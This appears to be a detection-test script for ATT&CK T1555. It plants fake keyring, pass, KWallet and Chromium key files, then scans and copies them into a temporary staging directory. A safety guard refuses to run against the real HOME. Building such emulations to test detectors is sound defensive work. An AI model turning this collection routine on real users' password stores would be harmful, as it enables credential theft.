# technique: T1555 T1555.003
"""Credentials from Password Stores (T1555): desktop keyrings and password
managers, discovered with os.scandir and copied with shutil.copy.

Plants fake stores (~/.local/share/keyrings/login.keyring, a pass(1)
store ~/.password-store/*.gpg, KWallet ~/.local/share/kwalletd/*.kwl,
Chromium's Local State with its encrypted_key), scans those directories
with os.scandir (no glob), and copies every entry into a staging
directory under /var/tmp, which is removed at the end.

A good detector raises a high alert: a program copies keyring / password
store files out of their directories.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import shutil
import tempfile

home = os.path.expanduser("~")
plants = {
    ".local/share/keyrings/login.keyring": b"GnomeKeyring\n\r\0\n\0fake",
    ".password-store/email/work.gpg": b"\x85\x01\x0cfake-gpg",
    ".local/share/kwalletd/kdewallet.kwl": b"KWALLET\n\r\0\r\nfake",
    ".config/chromium/Local State": b'{"os_crypt": {"encrypted_key": "RFBBUEkBAAAA"}}',
}
for rel, data in plants.items():
    p = os.path.join(home, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)

stage = tempfile.mkdtemp(dir="/var/tmp" if os.access("/var/tmp", os.W_OK) else None)
try:
    count = 0
    todo = [os.path.join(home, d) for d in (".local/share/keyrings", ".password-store",
                                            ".local/share/kwalletd", ".config/chromium")]
    while todo:
        d = todo.pop()
        if not os.path.isdir(d):
            continue
        with os.scandir(d) as it:
            for entry in it:
                if entry.is_dir():
                    todo.append(entry.path)
                elif entry.is_file():
                    count += 1
                    shutil.copy(entry.path, os.path.join(stage, f"{count}-{entry.name}"))
    print("copied", count)
finally:
    shutil.rmtree(stage)
